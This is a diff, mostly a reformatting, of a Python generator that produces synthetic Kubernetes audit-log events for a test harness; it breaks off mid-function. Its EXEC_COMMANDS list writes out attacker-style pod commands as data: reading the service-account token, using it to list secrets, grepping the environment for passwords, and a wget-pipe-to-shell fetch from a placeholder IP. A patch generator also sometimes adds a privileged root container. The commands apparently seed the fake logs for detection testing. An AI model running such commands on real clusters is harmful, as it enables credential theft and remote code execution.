@@ -32,6 +32,7 @@ always give a byte-identical file (1M lines: ~1.44 GB in ~10 s on a 2-vCPU box).
 ``--stats`` re-reads the written file, checks that every line is valid JSON and prints the mix.
 ``--meta`` also writes ``OUT.meta.json`` (lines, bytes, unique auditIDs, dates) for the harness.
 """
+
 from __future__ import annotations
 
 import argparse
@@ -44,9 +45,9 @@ import re
 import sys
 import time
 
-START = dt.datetime(2026, 3, 14, 6, 30, tzinfo=dt.timezone.utc)
-SPAN_US = 44 * 3600 * 1_000_000          # 44 h -> dates 2026-03-14, -15, -16
-RR_PAIR_P = 0.087                        # p/(1+p) ~= 8 % of lines are RequestReceived
+START = dt.datetime(2026, 3, 14, 6, 30, tzinfo=dt.UTC)
+SPAN_US = 44 * 3600 * 1_000_000  # 44 h -> dates 2026-03-14, -15, -16
+RR_PAIR_P = 0.087  # p/(1+p) ~= 8 % of lines are RequestReceived
 LEVEL_WEIGHTS = {"Metadata": 0.65, "Request": 0.30, "RequestResponse": 0.05}
 K8S_VERSION = "v1.30.4"
 K8S_COMMIT = "a51b3b711150f57ffc1f526a640ec058514f2596"
@@ -72,9 +73,24 @@ class Cluster:
             ("kube-system", "coredns", "coredns", "registry.k8s.io/coredns/coredns:v1.11.1"),
             ("kube-system", "metrics-server", "metrics-server", "registry.k8s.io/metrics-server/metrics-server:v0.7.1"),
             ("monitoring", "prometheus", "prometheus-k8s", "quay.io/prometheus/prometheus:v2.51.2"),
-            ("monitoring", "kube-state-metrics", "kube-state-metrics", "registry.k8s.io/kube-state-metrics/kube-state-metrics:v2.12.0"),
-            ("ingress-nginx", "ingress-nginx-controller", "ingress-nginx", "registry.k8s.io/ingress-nginx/controller:v1.10.1"),
-            ("argocd", "argocd-application-controller", "argocd-application-controller", "quay.io/argoproj/argocd:v2.10.9"),
+            (
+                "monitoring",
+                "kube-state-metrics",
+                "kube-state-metrics",
+                "registry.k8s.io/kube-state-metrics/kube-state-metrics:v2.12.0",
+            ),
+            (
+                "ingress-nginx",
+                "ingress-nginx-controller",
+                "ingress-nginx",
+                "registry.k8s.io/ingress-nginx/controller:v1.10.1",
+            ),
+            (
+                "argocd",
+                "argocd-application-controller",
+                "argocd-application-controller",
+                "quay.io/argoproj/argocd:v2.10.9",
+            ),
             ("cert-manager", "cert-manager", "cert-manager", "quay.io/jetstack/cert-manager-controller:v1.14.5"),
             ("payments", "payments-api", "payments-api", "ghcr.io/example/payments-api:3.4.1"),
             ("payments", "ledger", "ledger", "ghcr.io/example/ledger:1.9.0"),
@@ -90,17 +106,29 @@ class Cluster:
             pods = []
             for _ in range(rng.randint(2, 5)):
                 node = rng.choice(self.workers)
-                pods.append({
-                    "name": f"{name}-{rs_hash}-{self.name(5)}", "uid": self.uuid(), "node": node,
-                    "ip": f"10.244.{self.workers.index(node)}.{rng.randint(2, 250)}",
-                })
-            self.workloads.append({"ns": ns, "name": name, "sa": sa, "image": image,
-                                   "rs_hash": rs_hash, "pods": pods})
+                pods.append(
+                    {
+                        "name": f"{name}-{rs_hash}-{self.name(5)}",
+                        "uid": self.uuid(),
+                        "node": node,
+                        "ip": f"10.244.{self.workers.index(node)}.{rng.randint(2, 250)}",
+                    }
+                )
+            self.workloads.append({"ns": ns, "name": name, "sa": sa, "image": image, "rs_hash": rs_hash, "pods": pods})
         self.namespaces = sorted({w["ns"] for w in self.workloads} | {"default", "kube-node-lease", "kube-public"})
-        self.controllers = ["replicaset-controller", "deployment-controller", "endpointslice-controller",
-                            "namespace-controller", "generic-garbage-collector", "job-controller",
-                            "statefulset-controller", "daemon-set-controller", "node-controller",
-                            "horizontal-pod-autoscaler", "resourcequota-controller"]
+        self.controllers = [
+            "replicaset-controller",
+            "deployment-controller",
+            "endpointslice-controller",
+            "namespace-controller",
+            "generic-garbage-collector",
+            "job-controller",
+            "statefulset-controller",
+            "daemon-set-controller",
+            "node-controller",
+            "horizontal-pod-autoscaler",
+            "resourcequota-controller",
+        ]
         self.humans = ["alice@example.com", "bob@example.com", "oncall@example.com"]
         self.external_ips = ["203.0.113.17", "203.0.113.45", "198.51.100.23", "192.0.2.77"]
 
@@ -120,10 +148,15 @@ class Cluster:
 
     def controller(self, name: str | None = None):
         name = name or self.rng.choice(self.controllers)
-        user = {"username": f"system:serviceaccount:kube-system:{name}", "uid": self.uuid(),
-                "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]}
-        ua = (f"kube-controller-manager/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT[:7]}"
-              f"/system:serviceaccount:kube-system:{name}")
+        user = {
+            "username": f"system:serviceaccount:kube-system:{name}",
+            "uid": self.uuid(),
+            "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
+        }
+        ua = (
+            f"kube-controller-manager/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT[:7]}"
+            f"/system:serviceaccount:kube-system:{name}"
+        )
         return user, [self.node_ip[self.rng.choice(self.nodes[12:])]], ua
 
     def component(self, who: str):
@@ -135,7 +168,8 @@ class Cluster:
         w = w or self.rng.choice(self.workloads)
         pod = pod or self.rng.choice(w["pods"])
         user = {
-            "username": f"system:serviceaccount:{w['ns']}:{w['sa']}", "uid": self.uuid(),
+            "username": f"system:serviceaccount:{w['ns']}:{w['sa']}",
+            "uid": self.uuid(),
             "groups": ["system:serviceaccounts", f"system:serviceaccounts:{w['ns']}", "system:authenticated"],
             "extra": {
                 "authentication.kubernetes.io/credential-id": [f"JTI={self.uuid()}"],
@@ -145,31 +179,44 @@ class Cluster:
                 "authentication.kubernetes.io/pod-uid": [pod["uid"]],
             },
         }
-        ua = self.rng.choice([f"{w['name']}/v0.0.0 (linux/amd64) kubernetes/$Format",
-                              "Go-http-client/2.0", f"{w['name']}/{w['image'].rsplit(':', 1)[1]}"])
+        ua = self.rng.choice(
+            [
+                f"{w['name']}/v0.0.0 (linux/amd64) kubernetes/$Format",
+                "Go-http-client/2.0",
+                f"{w['name']}/{w['image'].rsplit(':', 1)[1]}",
+            ]
+        )
         return user, [pod["ip"]], ua
 
     def admin(self):
         user = {"username": "kubernetes-admin", "groups": ["kubeadm:cluster-admins", "system:authenticated"]}
         src = [self.rng.choice(self.external_ips)]
         if self.rng.random() < 0.5:
-            src.append("10.0.0.5")          # via the load balancer
+            src.append("10.0.0.5")  # via the load balancer
         ua = f"kubectl/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT[:7]}"
         return user, src, ua
 
     def human(self):
         who = self.rng.choice(self.humans)
-        user = {"username": f"oidc:{who}", "groups": ["oidc:sre", "system:authenticated"],
-                "extra": {"authentication.kubernetes.io/credential-id": [f"X509SHA256={self.name(40)}"]}}
+        user = {
+            "username": f"oidc:{who}",
+            "groups": ["oidc:sre", "system:authenticated"],
+            "extra": {"authentication.kubernetes.io/credential-id": [f"X509SHA256={self.name(40)}"]},
+        }
         ua = f"kubectl/{K8S_VERSION} (darwin/arm64) kubernetes/{K8S_COMMIT[:7]}"
         return user, [self.rng.choice(self.external_ips), "10.0.0.5"], ua
 
 
 def rbac_reason(user: dict, role: str) -> str:
-    kind = "ServiceAccount" if user["username"].startswith("system:serviceaccount:") else (
-        "Group" if user["username"].startswith("system:node:") else "User")
-    return (f'RBAC: allowed by ClusterRoleBinding "{role}" of ClusterRole "{role}" '
-            f'to {kind} "{user["username"].rsplit(":", 1)[-1]}"')
+    kind = (
+        "ServiceAccount"
+        if user["username"].startswith("system:serviceaccount:")
+        else ("Group" if user["username"].startswith("system:node:") else "User")
+    )
+    return (
+        f'RBAC: allowed by ClusterRoleBinding "{role}" of ClusterRole "{role}" '
+        f'to {kind} "{user["username"].rsplit(":", 1)[-1]}"'
+    )
 
 
 def annotations(user: dict, role: str, decision: str = "allow", extra: dict | None = None) -> dict:
@@ -181,8 +228,10 @@ def annotations(user: dict, role: str, decision: str = "allow", extra: dict | No
 
 
 def latency_ann(rng: random.Random) -> dict:
-    return {"apiserver.latency.k8s.io/etcd": f"{rng.uniform(0.5, 9):.6f}ms",
-            "apiserver.latency.k8s.io/total": f"{rng.uniform(2, 40):.6f}ms"}
+    return {
+        "apiserver.latency.k8s.io/etcd": f"{rng.uniform(0.5, 9):.6f}ms",
+        "apiserver.latency.k8s.io/total": f"{rng.uniform(2, 40):.6f}ms",
+    }
 
 
 def object_ref(resource, namespace=None, name=None, api_group=None, api_version="v1", subresource=None):
@@ -213,7 +262,10 @@ def t_kubelet_read(c: Cluster):
     w = r.choice(c.workloads)
     kind = r.choice(["pods", "configmaps", "secrets", "services", "nodes", "csinodes", "runtimeclasses"])
     if kind == "pods":
-        verb, uri = "watch", f"/api/v1/pods?allowWatchBookmarks=true&fieldSelector=spec.nodeName%3D{node}&resourceVersion=@@RV@@&timeout=7m3s&timeoutSeconds=423&watch=true"
+        verb, uri = (
+            "watch",
+            f"/api/v1/pods?allowWatchBookmarks=true&fieldSelector=spec.nodeName%3D{node}&resourceVersion=@@RV@@&timeout=7m3s&timeoutSeconds=423&watch=true",
+        )
         ref = object_ref("pods")
     elif kind == "nodes":
         verb, uri = "get", f"/api/v1/nodes/{node}?resourceVersion=0&timeout=10s"
@@ -230,40 +282,78 @@ def t_kubelet_read(c: Cluster):
         if verb == "get":
             uri = f"/api/v1/namespaces/{w['ns']}/{kind}/{name}"
         else:
-            uri = (f"/api/v1/namespaces/{w['ns']}/{kind}?allowWatchBookmarks=true&fieldSelector=metadata.name%3D{name}"
-                   f"&resourceVersion=@@RV@@&timeout=5m41s&timeoutSeconds=341&watch=true") if verb == "watch" else \
-                  f"/api/v1/namespaces/{w['ns']}/{kind}?fieldSelector=metadata.name%3D{name}&limit=500&resourceVersion=0"
+            uri = (
+                (
+                    f"/api/v1/namespaces/{w['ns']}/{kind}?allowWatchBookmarks=true&fieldSelector=metadata.name%3D{name}"
+                    f"&resourceVersion=@@RV@@&timeout=5m41s&timeoutSeconds=341&watch=true"
+                )
+                if verb == "watch"
+                else f"/api/v1/namespaces/{w['ns']}/{kind}?fieldSelector=metadata.name%3D{name}&limit=500&resourceVersion=0"
+            )
         ref = object_ref(kind, w["ns"], name if verb == "get" else None)
-    ev = {"level": "Metadata", "requestURI": uri, "verb": verb, "user": user, "sourceIPs": src,
-          "userAgent": ua, "objectRef": ref, "responseStatus": ok(),
-          "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}
+    ev = {
+        "level": "Metadata",
+        "requestURI": uri,
+        "verb": verb,
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": ref,
+        "responseStatus": ok(),
+        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
+    }
     return ev, (300, 6000)
 
 
 def t_controller_read(c: Cluster):
     r = c.rng
     user, src, ua = c.controller()
-    res, group, ver = r.choice([("pods", "", "v1"), ("replicasets", "apps", "v1"), ("deployments", "apps", "v1"),
-                                ("endpointslices", "discovery.k8s.io", "v1"), ("jobs", "batch", "v1"),
-                                ("services", "", "v1"), ("nodes", "", "v1"), ("namespaces", "", "v1"),
-                                ("horizontalpodautoscalers", "autoscaling", "v2"), ("resourcequotas", "", "v1")])
+    res, group, ver = r.choice(
+        [
+            ("pods", "", "v1"),
+            ("replicasets", "apps", "v1"),
+            ("deployments", "apps", "v1"),
+            ("endpointslices", "discovery.k8s.io", "v1"),
+            ("jobs", "batch", "v1"),
+            ("services", "", "v1"),
+            ("nodes", "", "v1"),
+            ("namespaces", "", "v1"),
+            ("horizontalpodautoscalers", "autoscaling", "v2"),
+            ("resourcequotas", "", "v1"),
+        ]
+    )
     base = f"/api/{ver}" if not group else f"/apis/{group}/{ver}"
     verb = r.choice(["list", "watch", "watch", "get"])
     ns = r.choice(c.namespaces) if res not in ("nodes", "namespaces") else None
     if verb == "get":
-        name = r.choice(c.workers) if res == "nodes" else (ns or "default") if res == "namespaces" else \
-            f"{r.choice(c.workloads)['name']}-{c.name(10)}"
+        name = (
+            r.choice(c.workers)
+            if res == "nodes"
+            else (ns or "default")
+            if res == "namespaces"
+            else f"{r.choice(c.workloads)['name']}-{c.name(10)}"
+        )
         uri = f"{base}/{'namespaces/' + ns + '/' if ns else ''}{res}/{name}"
         ref = object_ref(res, ns, name, group or None, ver)
     elif verb == "watch":
-        uri = f"{base}/{res}?allowWatchBookmarks=true&resourceVersion=@@RV@@&timeout=8m30s&timeoutSeconds=510&watch=true"
+        uri = (
+            f"{base}/{res}?allowWatchBookmarks=true&resourceVersion=@@RV@@&timeout=8m30s&timeoutSeconds=510&watch=true"
+        )
         ref = object_ref(res, None, None, group or None, ver)
     else:
         uri = f"{base}/{'namespaces/' + ns + '/' if ns else ''}{res}?limit=500&resourceVersion=0"
         ref = object_ref(res, ns, None, group or None, ver)
-    ev = {"level": "Metadata", "requestURI": uri, "verb": verb, "user": user, "sourceIPs": src,
-          "userAgent": ua, "objectRef": ref, "responseStatus": ok(),
-          "annotations": annotations(user, f"system:controller:{user['username'].rsplit(':', 1)[1]}")}
+    ev = {
+        "level": "Metadata",
+        "requestURI": uri,
+        "verb": verb,
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": ref,
+        "responseStatus": ok(),
+        "annotations": annotations(user, f"system:controller:{user['username'].rsplit(':', 1)[1]}"),
+    }
     return ev, (200, 4000)
 
 
@@ -285,36 +375,66 @@ def t_pod_sa_read(c: Cluster):
     else:
         uri = f"/api/v1/namespaces/{w['ns']}/{res}?labelSelector=app.kubernetes.io%2Fname%3D{w['name']}&limit=500"
         ref, verb = object_ref(res, w["ns"]), "list"
-    ev = {"level": "Metadata", "requestURI": uri, "verb": verb, "user": user, "sourceIPs": src,
-          "userAgent": ua, "objectRef": ref, "responseStatus": ok(),
-          "annotations": annotations(user, f"{w['name']}-reader")}
+    ev = {
+        "level": "Metadata",
+        "requestURI": uri,
+        "verb": verb,
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": ref,
+        "responseStatus": ok(),
+        "annotations": annotations(user, f"{w['name']}-reader"),
+    }
     return ev, (300, 5000)
 
 
 def t_forbidden(c: Cluster):
     r = c.rng
     w = r.choice(c.workloads)
-    user, src, ua = c.pod_sa(w) if r.random() < 0.7 else (
-        {"username": "system:anonymous", "groups": ["system:unauthenticated"]}, [r.choice(c.external_ips)],
-        "python-requests/2.31.0")
+    user, src, ua = (
+        c.pod_sa(w)
+        if r.random() < 0.7
+        else (
+            {"username": "system:anonymous", "groups": ["system:unauthenticated"]},
+            [r.choice(c.external_ips)],
+            "python-requests/2.31.0",
+        )
+    )
     res = r.choice(["secrets", "clusterrolebindings", "pods", "nodes"])
     group = "rbac.authorization.k8s.io" if res == "clusterrolebindings" else None
     base = "/apis/rbac.authorization.k8s.io/v1" if group else "/api/v1"
     who = user["username"]
-    msg = (f'{res} is forbidden: User "{who}" cannot list resource "{res}" in API group "{group or ""}" '
-           f"at the cluster scope")
-    ev = {"level": "Metadata", "requestURI": f"{base}/{res}?limit=500", "verb": "list", "user": user,
-          "sourceIPs": src, "userAgent": ua, "objectRef": object_ref(res, api_group=group),
-          "responseStatus": {"metadata": {}, "status": "Failure", "message": msg, "reason": "Forbidden",
-                             "details": {"kind": res}, "code": 403},
-          "annotations": annotations(user, "", "forbid")}
+    msg = (
+        f'{res} is forbidden: User "{who}" cannot list resource "{res}" in API group "{group or ""}" '
+        f"at the cluster scope"
+    )
+    ev = {
+        "level": "Metadata",
+        "requestURI": f"{base}/{res}?limit=500",
+        "verb": "list",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref(res, api_group=group),
+        "responseStatus": {
+            "metadata": {},
+            "status": "Failure",
+            "message": msg,
+            "reason": "Forbidden",
+            "details": {"kind": res},
+            "code": 403,
+        },
+        "annotations": annotations(user, "", "forbid"),
+    }
     return ev, (200, 2000)
 
 
 def t_nonresource(c: Cluster):
     r = c.rng
-    path = r.choice(["/healthz", "/readyz", "/livez", "/version", "/apis", "/api", "/openapi/v2",
-                     "/readyz?verbose", "/metrics"])
+    path = r.choice(
+        ["/healthz", "/readyz", "/livez", "/version", "/apis", "/api", "/openapi/v2", "/readyz?verbose", "/metrics"]
+    )
     if r.random() < 0.6:
         user = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}
         src, ua = [c.node_ip[r.choice(c.nodes)]], f"kube-probe/{K8S_VERSION[1:5]}"
@@ -322,9 +442,16 @@ def t_nonresource(c: Cluster):
     else:
         user, src, ua = c.pod_sa(r.choice(c.workloads[:4]))
         role = "system:discovery"
-    ev = {"level": "Metadata", "requestURI": path, "verb": "get", "user": user, "sourceIPs": src,
-          "userAgent": ua, "responseStatus": ok(),
-          "annotations": annotations(user, role)}
+    ev = {
+        "level": "Metadata",
+        "requestURI": path,
+        "verb": "get",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "responseStatus": ok(),
+        "annotations": annotations(user, role),
+    }
     return ev, (100, 1500)
 
 
@@ -335,11 +462,18 @@ def t_admin_read(c: Cluster):
     pod = r.choice(w["pods"])
     kind = r.choice(["get_pod", "list_pods", "logs", "get_secret", "list_secrets", "get_deploy", "events"])
     if kind == "get_pod":
-        uri, verb, ref = f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}", "get", object_ref("pods", w["ns"], pod["name"])
+        uri, verb, ref = (
+            f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}",
+            "get",
+            object_ref("pods", w["ns"], pod["name"]),
+        )
     elif kind == "list_pods":
         uri, verb, ref = f"/api/v1/namespaces/{w['ns']}/pods?limit=500", "list", object_ref("pods", w["ns"])
     elif kind == "logs":
-        uri, verb = f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}/log?container={w['name']}&follow=true&tailLines=200", "get"
+        uri, verb = (
+            f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}/log?container={w['name']}&follow=true&tailLines=200",
+            "get",
+        )
         ref = object_ref("pods", w["ns"], pod["name"], subresource="log")
     elif kind == "get_secret":
         name = f"{w['name']}-{r.choice(['db-credentials', 'tls', 'api-key'])}"
@@ -360,14 +494,25 @@ def t_admin_read(c: Cluster):
     ev = {"level": "Metadata", "requestURI": uri, "verb": verb, "user": user}
     if ev_imp:
         ev["impersonatedUser"] = ev_imp
-    ev.update({"sourceIPs": src, "userAgent": ua, "objectRef": ref, "responseStatus": ok(),
-               "annotations": annotations(user, "cluster-admin")})
+    ev.update(
+        {
+            "sourceIPs": src,
+            "userAgent": ua,
+            "objectRef": ref,
+            "responseStatus": ok(),
+            "annotations": annotations(user, "cluster-admin"),
+        }
+    )
     return ev, (500, 15000)
 
 
 EXEC_COMMANDS = [
     ["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
-    ["sh", "-c", "curl -sk https://kubernetes.default.svc/api/v1/secrets -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\""],
+    [
+        "sh",
+        "-c",
+        'curl -sk https://kubernetes.default.svc/api/v1/secrets -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)"',
+    ],
     ["sh", "-c", "env | grep -i pass"],
     ["sh", "-c", "wget -qO- http://203.0.113.45/x.sh | sh"],
     ["/bin/bash"],
@@ -384,16 +529,24 @@ def t_exec(c: Cluster):
     user, src, ua = c.admin() if r.random() < 0.7 else c.human()
     cmd = r.choice(EXEC_COMMANDS)
     from urllib.parse import quote
+
     q = "&".join(f"command={quote(part, safe='')}" for part in cmd)
     sub = r.choice(["exec", "exec", "exec", "attach"])
     if sub == "exec":
         uri = f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}/exec?{q}&container={w['name']}&stdin=true&stdout=true&tty=true"
     else:
         uri = f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}/attach?container={w['name']}&stdin=true&stdout=true&tty=true"
-    ev = {"level": "Metadata", "requestURI": uri, "verb": "create" if r.random() < 0.8 else "get",
-          "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("pods", w["ns"], pod["name"], subresource=sub),
-          "responseStatus": ok(101), "annotations": annotations(user, "cluster-admin")}
+    ev = {
+        "level": "Metadata",
+        "requestURI": uri,
+        "verb": "create" if r.random() < 0.8 else "get",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("pods", w["ns"], pod["name"], subresource=sub),
+        "responseStatus": ok(101),
+        "annotations": annotations(user, "cluster-admin"),
+    }
     return ev, (2_000_000, 90_000_000)
 
 
@@ -408,21 +561,43 @@ def t_lease_update(c: Cluster):
         comp = r.choice(["kube-scheduler", "kube-controller-manager"])
         user, src, ua = c.component(comp)
         ns, name, holder, dur = "kube-system", comp, f"{r.choice(c.nodes[12:])}_{c.uuid()}", 15
-    lease = {"kind": "Lease", "apiVersion": "coordination.k8s.io/v1",
-             "metadata": {"name": name, "namespace": ns, "uid": c.uuid(), "resourceVersion": "@@RV@@",
-                          "creationTimestamp": "2026-02-02T11:04:13Z",
-                          "ownerReferences": [{"apiVersion": "v1", "kind": "Node", "name": node,
-                                               "uid": c.node_uid[node]}] if ns == "kube-node-lease" else None},
-             "spec": {"holderIdentity": holder, "leaseDurationSeconds": dur,
-                      "acquireTime": "2026-03-10T08:15:12.412233Z", "renewTime": "@@STS@@", "leaseTransitions": r.randint(0, 9)}}
+    lease = {
+        "kind": "Lease",
+        "apiVersion": "coordination.k8s.io/v1",
+        "metadata": {
+            "name": name,
+            "namespace": ns,
+            "uid": c.uuid(),
+            "resourceVersion": "@@RV@@",
+            "creationTimestamp": "2026-02-02T11:04:13Z",
+            "ownerReferences": [{"apiVersion": "v1", "kind": "Node", "name": node, "uid": c.node_uid[node]}]
+            if ns == "kube-node-lease"
+            else None,
+        },
+        "spec": {
+            "holderIdentity": holder,
+            "leaseDurationSeconds": dur,
+            "acquireTime": "2026-03-10T08:15:12.412233Z",
+            "renewTime": "@@STS@@",
+            "leaseTransitions": r.randint(0, 9),
+        },
+    }
     if lease["metadata"]["ownerReferences"] is None:
         del lease["metadata"]["ownerReferences"]
-    ev = {"level": "Request", "requestURI": f"/apis/coordination.k8s.io/v1/namespaces/{ns}/leases/{name}?timeout=10s",
-          "verb": "update", "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("leases", ns, name, "coordination.k8s.io"),
-          "responseStatus": ok(), "requestObject": lease,
-          "annotations": annotations(user, f"system:{name}") if ns == "kube-system" else
-          {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}  # node authorizer
+    ev = {
+        "level": "Request",
+        "requestURI": f"/apis/coordination.k8s.io/v1/namespaces/{ns}/leases/{name}?timeout=10s",
+        "verb": "update",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("leases", ns, name, "coordination.k8s.io"),
+        "responseStatus": ok(),
+        "requestObject": lease,
+        "annotations": annotations(user, f"system:{name}")
+        if ns == "kube-system"
+        else {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
+    }  # node authorizer
     return ev, (1000, 9000)
 
 
@@ -432,22 +607,46 @@ def t_pod_status_patch(c: Cluster):
     pod = r.choice(w["pods"])
     user, src, ua = c.kubelet(pod["node"])
     ready = r.choice(["True", "False"])
-    patch = {"metadata": {"uid": pod["uid"]},
-             "status": {"$setElementOrder/conditions": [{"type": t} for t in
-                                                       ("PodReadyToStartContainers", "Initialized", "Ready", "ContainersReady", "PodScheduled")],
-                        "conditions": [{"lastTransitionTime": "@@STS@@", "status": ready, "type": "Ready"},
-                                       {"lastTransitionTime": "@@STS@@", "status": ready, "type": "ContainersReady"}],
-                        "containerStatuses": [{"containerID": f"containerd://{c.name(8)}@@UID@@", "image": w["image"],
-                                               "imageID": f"{w['image'].split(':')[0]}@sha256:{'%064x' % r.getrandbits(256)}",
-                                               "lastState": {}, "name": w["name"], "ready": ready == "True",
-                                               "restartCount": r.randint(0, 3), "started": True,
-                                               "state": {"running": {"startedAt": "@@RTS@@"}}}],
-                        "podIP": pod["ip"], "podIPs": [{"ip": pod["ip"]}]}}
-    ev = {"level": "Request", "requestURI": f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}/status",
-          "verb": "patch", "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("pods", w["ns"], pod["name"], subresource="status"),
-          "responseStatus": ok(), "requestObject": patch,
-          "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}
+    patch = {
+        "metadata": {"uid": pod["uid"]},
+        "status": {
+            "$setElementOrder/conditions": [
+                {"type": t}
+                for t in ("PodReadyToStartContainers", "Initialized", "Ready", "ContainersReady", "PodScheduled")
+            ],
+            "conditions": [
+                {"lastTransitionTime": "@@STS@@", "status": ready, "type": "Ready"},
+                {"lastTransitionTime": "@@STS@@", "status": ready, "type": "ContainersReady"},
+            ],
+            "containerStatuses": [
+                {
+                    "containerID": f"containerd://{c.name(8)}@@UID@@",
+                    "image": w["image"],
+                    "imageID": f"{w['image'].split(':')[0]}@sha256:{'%064x' % r.getrandbits(256)}",
+                    "lastState": {},
+                    "name": w["name"],
+                    "ready": ready == "True",
+                    "restartCount": r.randint(0, 3),
+                    "started": True,
+                    "state": {"running": {"startedAt": "@@RTS@@"}},
+                }
+            ],
+            "podIP": pod["ip"],
+            "podIPs": [{"ip": pod["ip"]}],
+        },
+    }
+    ev = {
+        "level": "Request",
+        "requestURI": f"/api/v1/namespaces/{w['ns']}/pods/{pod['name']}/status",
+        "verb": "patch",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("pods", w["ns"], pod["name"], subresource="status"),
+        "responseStatus": ok(),
+        "requestObject": patch,
+        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
+    }
     return ev, (2000, 12000)
 
 
@@ -458,14 +657,35 @@ def t_deploy_patch(c: Cluster):
     if r.random() < 0.5:
         patch = {"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "@@RTS@@"}}}}}
     else:
-        patch = {"metadata": {"labels": {"app.kubernetes.io/instance": w["name"], "argocd.argoproj.io/instance": w["name"]}},
-                 "spec": {"template": {"spec": {"$setElementOrder/containers": [{"name": w["name"]}],
-                                                "containers": [{"image": w["image"], "name": w["name"],
-                                                                "resources": {"limits": {"memory": f"{r.choice([256, 512, 1024])}Mi"}}}]}}}}
-    ev = {"level": "Request", "requestURI": f"/apis/apps/v1/namespaces/{w['ns']}/deployments/{w['name']}?fieldManager=kubectl-rollout",
-          "verb": "patch", "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("deployments", w["ns"], w["name"], "apps"),
-          "responseStatus": ok(), "requestObject": patch, "annotations": annotations(user, "cluster-admin")}
+        patch = {
+            "metadata": {"labels": {"app.kubernetes.io/instance": w["name"], "argocd.argoproj.io/instance": w["name"]}},
+            "spec": {
+                "template": {
+                    "spec": {
+                        "$setElementOrder/containers": [{"name": w["name"]}],
+                        "containers": [
+                            {
+                                "image": w["image"],
+                                "name": w["name"],
+                                "resources": {"limits": {"memory": f"{r.choice([256, 512, 1024])}Mi"}},
+                            }
+                        ],
+                    }
+                }
+            },
+        }
+    ev = {
+        "level": "Request",
+        "requestURI": f"/apis/apps/v1/namespaces/{w['ns']}/deployments/{w['name']}?fieldManager=kubectl-rollout",
+        "verb": "patch",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("deployments", w["ns"], w["name"], "apps"),
+        "responseStatus": ok(),
+        "requestObject": patch,
+        "annotations": annotations(user, "cluster-admin"),
+    }
     return ev, (3000, 20000)
 
 
@@ -473,17 +693,32 @@ def t_json_patch(c: Cluster):
     r = c.rng
     w = r.choice(c.workloads)
     user, src, ua = c.admin() if r.random() < 0.5 else c.human()
-    ops = [{"op": "replace", "path": "/spec/replicas", "value": r.randint(1, 6)},
-           {"op": "add", "path": "/metadata/labels/release", "value": f"r{r.randint(100, 999)}"}]
+    ops = [
+        {"op": "replace", "path": "/spec/replicas", "value": r.randint(1, 6)},
+        {"op": "add", "path": "/metadata/labels/release", "value": f"r{r.randint(100, 999)}"},
+    ]
     if r.random() < 0.4:
         ops.append({"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": w["image"]})
     if r.random() < 0.2:
-        ops = [{"op": "add", "path": "/spec/template/spec/containers/0/securityContext",
-                "value": {"privileged": True, "runAsUser": 0}}]
-    ev = {"level": "Request", "requestURI": f"/apis/apps/v1/namespaces/{w['ns']}/deployments/{w['name']}",
-          "verb": "patch", "user": user, "sourceIPs": src, "userAgent": ua,
-          "objectRef": object_ref("deployments", w["ns"], w["name"], "apps"),
-          "responseStatus": ok(), "requestObject": ops, "annotations": annotations(user, "cluster-admin")}
+        ops = [
+            {
+                "op": "add",
+                "path": "/spec/template/spec/containers/0/securityContext",
+                "value": {"privileged": True, "runAsUser": 0},
+            }
+        ]
+    ev = {
+        "level": "Request",
+        "requestURI": f"/apis/apps/v1/namespaces/{w['ns']}/deployments/{w['name']}",
+        "verb": "patch",
+        "user": user,
+        "sourceIPs": src,
+        "userAgent": ua,
+        "objectRef": object_ref("deployments", w["ns"], w["name"], "apps"),
+        "responseStatus": ok(),
+        "requestObject": ops,
+        "annotations": annotations(user, "cluster-admin"),
+    }
     return ev, (3000, 20000)
 
 
@@ -492,15 +727,31 @@ def t_scale(c: Cluster):
     w = r.choice(c.workloads)
     user, src, ua = c.controller("horizontal-pod-autoscaler") if r.random() < 0.7 else c.admin()
     n = r.randint(1, 12)
-    scale = {"kind": "Scale", "apiVersion": "autoscaling/v1",
